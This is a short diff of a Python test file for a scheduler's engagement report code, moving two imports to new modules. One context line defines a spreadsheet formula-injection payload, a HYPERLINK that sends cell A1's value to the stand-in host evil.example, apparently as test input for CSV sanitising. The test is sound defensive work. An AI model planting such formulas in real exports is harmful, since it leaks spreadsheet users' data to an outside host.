@@ -8,7 +8,8 @@ from pathlib import Path
 
 import pytest
 
-from scheduler.report import load, spreadsheet_text, write_csv
+from scheduler.engagement.report import load
+from scheduler.engagement.report_files import spreadsheet_text, write_csv
 from tests.engagement.conftest import World, report_entry
 
 LEAK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
